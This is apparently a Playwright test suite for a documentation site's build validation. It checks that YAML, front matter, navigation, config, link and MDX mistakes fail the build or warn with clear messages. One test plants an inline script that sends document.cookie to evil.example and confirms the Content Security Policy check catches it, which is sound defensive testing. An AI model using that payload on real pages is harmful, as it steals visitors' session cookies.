import fs from 'node:fs/promises';
import path from 'node:path';
import { expect, test } from '@playwright/test';
import { buildAndDiscard, buildFixture, edit, removeFixture, type FixtureBuild } from './buildFixture';

/** A frame of a JavaScript stack trace, as Node prints one: an editor's mistake is reported without any. */
const STACK_FRAME = / at (?:async )?(?:\S+ \()?(?:file:\/\/|node:|\/)\S+:\d+:\d+\)?/;

/** Asserts the build stopped on an editor's mistake and printed each text of its message, without a stack trace. */
function expectStopped({ code, output }: Omit<FixtureBuild, 'dir'>, ...texts: string[]): void {
  expect(code).not.toBe(0);
  for (const text of texts) expect(output).toContain(text);
  expect(output).not.toMatch(STACK_FRAME);
}

test.describe('build-time validation', () => {
  test.setTimeout(600_000);

  test('a YAML mistake in front matter fails the build naming the file, the line and the fix', async () => {
    const build = await buildAndDiscard((dir) =>
      edit(path.join(dir, 'content/docs/wants.mdx'), (text) => text.replace(/^title: (.*)$/m, 'title: "$1')),
    );
    expectStopped(
      build,
      'Invalid front matter in content/docs/wants.mdx',
      'line 3, column 8: Missing closing "quote (YAML syntax)',
      'quote a value that holds ": " or starts with a quote, and close every quote',
    );
    expect(build.output).not.toContain('gatsby-plugin-mdx');
  });

  test('a sidebar entry naming a doc that does not exist fails the build naming the file, the line and the known ids', async () => {
    const build = await buildAndDiscard((dir) =>
      edit(path.join(dir, 'content/navigation/sidebars.yml'), (text) => `${text}  - type: doc\n    id: ghost-doc\n`),
    );
    expectStopped(
      build,
      'content/navigation/sidebars.yml: line 15: tutorialSidebar[3].id: found "ghost-doc"; expected the id of a doc in the docs folder (known ids: index, resources, wants). Fix the id or add the doc.',
    );
    expect(build.output).not.toContain('There was an unhandled error');
  });

  test('a front matter value of the wrong type fails the build naming the line, the key and the fix', async () => {
    const build = await buildAndDiscard((dir) =>
      edit(path.join(dir, 'content/docs/wants.mdx'), (text) =>
        text.replace(/^sidebar_position: .*$/m, 'sidebar_position: third'),
      ),
    );
    expectStopped(
      build,
      'Invalid front matter in content/docs/wants.mdx',
      'line 6: sidebar_position: found "third"; expected a value of type number; use a whole number such as 2',
    );
  });

  test('an empty doc file fails the build naming it and what a doc starts with', async () => {
    const build = await buildAndDiscard((dir) => fs.writeFile(path.join(dir, 'content/docs/trading.mdx'), ''));
    expectStopped(
      build,
      'Invalid front matter in content/docs/trading.mdx',
      'line 1: no front matter (the file is empty); start the file with a --- line',
    );
  });

  test('an invalid SITE_URL fails the build naming the variable, what was found and the fix', async () => {
    const build = await buildAndDiscard(() => Promise.resolve(), { env: { SITE_URL: 'docs.trove.app' } });
    expectStopped(
      build,
      'SITE_URL: found "docs.trove.app"; expected the http(s) URL the site is served at, without a trailing slash',
    );
  });

  test('a doc without a title fails the build naming the file and the key', async () => {
    const build = await buildAndDiscard((dir) =>
      edit(path.join(dir, 'content/docs/wants.mdx'), (text) => text.replace(/^title: .*\n/m, '')),
    );
    expectStopped(
      build,
      'Invalid front matter in content/docs/wants.mdx',
      'title: missing; add a "title:" line with the page heading',
    );
  });

  test('an unknown front matter key fails the build naming it', async () => {
    const build = await buildAndDiscard((dir) =>
      edit(path.join(dir, 'content/docs/resources.mdx'), (text) => text.replace('---\n', '---\ntags: [coins]\n')),
    );
    expectStopped(
      build,
      'Invalid front matter in content/docs/resources.mdx',
      'line 2: tags: unknown key; remove it or use one of id, title, description',
    );
  });

  test('an invalid site config fails the build with the key path, found and expected', async () => {
    const build = await buildAndDiscard((dir) =>
      edit(path.join(dir, 'src/config/site.config.ts'), (text) => text.replace(/^ {2}url: '(.*)',$/m, "  url: '$1/',")),
    );
    expectStopped(
      build,
      'Invalid site config (src/config/site.config.ts)',
      'url: found "https://docs.trove.app/"; expected a URL without a trailing slash',
    );
  });

  test('a doc file name outside the id rule fails the build naming the file and the name to use', async () => {
    const build = await buildAndDiscard((dir) =>
      fs.writeFile(
        path.join(dir, 'content/docs/Resource Guides.mdx'),
        '---\ntitle: Resource guides\ndescription: Where to find price guides.\n---\n\nPrice guides, by hobby.\n',
      ),
    );
    expectStopped(
      build,
      'Invalid content/docs/Resource Guides.mdx',
      'file name: found "Resource Guides"; expected lowercase letters, digits and dashes',
      'rename the file to resource-guides.mdx',
    );
  });

  test('invalid CMS settings fail the build naming each variable and the fix', async () => {
    const build = await buildAndDiscard(async () => undefined, {
      env: { CMS_BACKEND: 'github', CMS_BRANCH: 'no branch' },
    });
    expectStopped(
      build,
      'Invalid CMS settings',
      'CMS_REPO: missing; CMS_BACKEND=github needs the repository the CMS commits to: set it to owner/name',
      'CMS_BRANCH: found "no branch"',
    );
  });

  test('an invalid navigation file fails the build naming the file, the line and the key', async () => {
    const build = await buildAndDiscard((dir) =>
      fs.writeFile(
        path.join(dir, 'content/navigation/navbar.yml'),
        'items:\n  - type: search\n    position: right\n  - type: joke\nhideOnScroll: false\n',
      ),
    );
    expectStopped(
      build,
      'Invalid content/navigation/navbar.yml',
      'line 4: items[1].type: found "joke"; expected one of "default", "doc"',
    );
  });

  test('an invalid _category_.yml fails the build naming the file, the line and the key', async () => {
    const build = await buildAndDiscard(async (dir) => {
      const folder = path.join(dir, 'content/docs/guides');
      await fs.mkdir(folder);
      await fs.writeFile(path.join(folder, '_category_.yml'), 'label: Guides\nposition: two\n');
      await fs.writeFile(
        path.join(folder, 'alerts.mdx'),
        '---\ntitle: Price alerts\ndescription: Get told when a want is offered.\n---\n\nAlerts.\n',
      );
    });
    expectStopped(
      build,
      'Invalid content/docs/guides/_category_.yml',
      'line 2: position: found "two"; expected a value of type number',
    );
  });

  test('two docs with one id fail the build, naming both files', async () => {
    const build = await buildAndDiscard(async (dir) => {
      const copy = await fs.readFile(path.join(dir, 'content/docs/wants.mdx'), 'utf8');
      expect(copy).toMatch(/^id: wants$/m);
      await fs.writeFile(path.join(dir, 'content/docs/wants-draft.mdx'), copy);
    });
    expectStopped(
      build,
      'Two docs have one id: - "wants": content/docs/wants-draft.mdx, content/docs/wants.mdx',
      'rename a file or change an "id"',
    );
  });

  test('an MDX syntax error fails the build naming the file, the line and the fix', async () => {
    const build = await buildAndDiscard((dir) =>
      edit(path.join(dir, 'content/docs/wants.mdx'), (text) =>
        text.replace('## Price ceilings', 'Set a <span>ceiling per want.\n\n## Price ceilings'),
      ),
    );
    expectStopped(
      build,
      'Could not build content/docs/wants.mdx:71:1: Expected a closing tag for `<span>` (71:7-71:13)',
      'Fix the doc there: it holds Markdown, admonitions and the components and HTML elements the README lists',
    );
  });

  test('a broken link fails the build, listing each page and its broken links', async () => {
    const build = await buildAndDiscard((dir) =>
      edit(path.join(dir, 'content/docs/wants.mdx'), (text) =>
        text.replace('## Price ceilings', 'See the [old guide](/guides/want-lists).\n\n## Price ceilings'),
      ),
    );
    expectStopped(
      build,
      'Broken links (no page or file at the target): - On /wants: - /guides/want-lists',
      'Fix each link to point at an existing route',
    );
  });

  test('inline code the site did not write fails the build, naming the page and the first characters', async () => {
    const build = await buildAndDiscard((dir) =>
      fs.writeFile(
        path.join(dir, 'src/pages/changelog.tsx'),
        [
          "import React from 'react';",
          '',
          'export default function Changelog() {',
          '  return (',
          '    <main>',
          "      <h1 style={{ color: 'red' }}>Changelog</h1>",
          '      <script dangerouslySetInnerHTML={{ __html: "fetch(\'https://evil.example/?c=\' + document.cookie)" }} />',
          '    </main>',
          '  );',
          '}',
          '',
        ].join('\n'),
      ),
    );
    expectStopped(
      build,
      'Inline code the site did not write, which the Content Security Policy does not allow:',
      `- Inline script "fetch('https://evil.example/?c=' + document.cookie)" on /changelog -`,
      '- Style attribute "color:red" on /changelog',
      'Content may not carry scripts or styles',
    );
  });

  test('a page module without a default export fails the build naming the file and the fix', async () => {
    const build = await buildAndDiscard((dir) =>
      fs.writeFile(
        path.join(dir, 'src/pages/changelog.tsx'),
        "import React from 'react';\n\nexport function Changelog() {\n  return <h1>Changelog</h1>;\n}\n",
      ),
    );
    expectStopped(build, 'created a page without a valid default export', 'please use "export default" instead');
    expect(build.output).toMatch(/The path to the page is "[^"]*src\/pages\/changelog\.tsx"/);
  });
});

// Mistakes that leave a working site share one build: each test checks its own part of it.
test.describe('a build with mistakes that do not stop it', () => {
  test.describe.configure({ mode: 'default' });
  const title = 'Wants <em>& "trades"</em>';
  const description = 'Lists of what you seek: <b>priorities</b> & "ceilings".';
  let build: FixtureBuild;

  test.beforeAll(async () => {
    test.setTimeout(600_000);
    const doc = (docTitle: string) => `---\ntitle: ${docTitle}\ndescription: Where to trade.\n---\n\nTrading.\n`;
    build = await buildFixture(async (root) => {
      // One edit per line, so each fails the test if its line is not there.
      const wants = path.join(root, 'content/docs/wants.mdx');
      await edit(wants, (text) => text.replace(/^title: .*$/m, `title: '${title}'`));
      await edit(wants, (text) => text.replace(/^description: .*$/m, `description: '${description}'`));
      await fs.mkdir(path.join(root, 'content/docs/trading'));
      await fs.writeFile(path.join(root, 'content/docs/trading.mdx'), doc('Trading'));
      await fs.writeFile(path.join(root, 'content/docs/trading/index.mdx'), doc('Trading overview'));
      await edit(path.join(root, 'content/docs/resources.mdx'), (text) =>
        text.replace(
          '## Condition scales',
          'Set [a ceiling](/wants#price-cap) and read [the trades file](./trades.mdx).\n\n## Condition scales',
        ),
      );
    });
  });

  test.afterAll(async () => {
    if (build) await removeFixture(build.dir);
  });

  test('a title and description with markup and quotes build, escaped in the page', async () => {
    expect(build.code).toBe(0);
    const html = await fs.readFile(path.join(build.dir, 'public/wants/index.html'), 'utf8');
    expect(html).toContain('<h1>Wants &lt;em&gt;&amp; &quot;trades&quot;&lt;/em&gt;</h1>');
    expect(html).toMatch(/<title[^>]*>Wants &lt;em&gt;&amp; &quot;trades&quot;&lt;\/em&gt; \| Trove<\/title>/);
    expect(html).toContain(
      'content="Lists of what you seek: &lt;b&gt;priorities&lt;/b&gt; &amp; &quot;ceilings&quot;."',
    );
    expect(html).not.toContain('<em>&');
  });

  test('two docs on one route warn, naming both files, and the build goes on', async () => {
    expect(build.output).toContain(
      'Duplicate route /trading: content/docs/trading.mdx, content/docs/trading/index.mdx all claim it; content/docs/trading/index.mdx is served.',
    );
    expect(build.code).toBe(0);
    const served = await fs.readFile(path.join(build.dir, 'public/trading/index.html'), 'utf8');
    expect(served).toContain('<h1>Trading overview</h1>');
  });

  test('broken anchors and broken Markdown links only warn', async () => {
    expect(build.output).toContain(
      'Broken anchors (the page exists, the heading id does not): - On /resources: - /wants#price-cap',
    );
    expect(build.output).toContain('Broken Markdown links (no doc has that file): - On /resources: - ./trades.mdx');
    expect(build.output).toContain('such as [want lists](./wants.mdx), or to its route (/wants)');
    expect(build.code).toBe(0);
  });
});
